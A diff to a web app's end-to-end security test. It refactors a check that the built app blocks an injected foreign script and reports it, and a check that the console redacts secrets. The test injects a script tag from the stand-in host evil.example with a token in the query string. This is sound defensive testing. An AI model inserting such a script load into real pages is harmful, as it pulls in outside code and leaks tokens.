@@ -3,6 +3,13 @@ import { expect, test } from '../fixtures/test.ts'
 
 const bodyOf = (request: Request) => request.postDataJSON() as Record<string, unknown>
 
+const addForeignScript = `
+  document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js?token=abc' }))`
+const printSecrets = `
+  console.info('some info')
+  console.debug('some debug')
+  console.warn('for ana@example.org', { password: 'hunter2' })`
+
 // spec access §5: suspicious input in the address is logged as a warning only
 // spec access §7: security-audit: sent in production; failures ignored
 //   in apps/web/src/app/watch-problems.ts, apps/web/src/features/client-reports/send-reports.ts
@@ -34,14 +41,7 @@ test('the built app reports what it notices, without cookies, and keeps its cons
     await owner.enter(context)
     await page.goto('/pets?tab=health')
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
-    const [answer] = await Promise.all([
-      reported('/api/security-audit'),
-      page.evaluate(() => {
-        const script = document.createElement('script')
-        script.src = 'https://evil.example/x.js?token=abc'
-        document.head.append(script)
-      }),
-    ])
+    const [answer] = await Promise.all([reported('/api/security-audit'), page.evaluate(addForeignScript)])
     const report = bodyOf(answer.request())
     expect(Object.keys(report).toSorted()).toEqual(['details', 'timestamp', 'type', 'url', 'userAgent'])
     expect(report['details']).toMatchObject({ blocked: 'https://evil.example/x.js' })
@@ -50,12 +50,7 @@ test('the built app reports what it notices, without cookies, and keeps its cons
   })
 
   await test.step('The console shows neither debug nor info, and no secrets', async () => {
-    await page.evaluate(() => {
-      // oxlint-disable no-console -- the console is tested
-      console.info('some info')
-      console.debug('some debug')
-      console.warn('for ana@example.org', { password: 'hunter2' })
-    })
+    await page.evaluate(printSecrets)
     await expect.poll(() => lines.at(-1)).toContain('for [email]')
     expect(lines.join('\n')).not.toMatch(/some info|some debug|hunter2|ana@example/)
   })
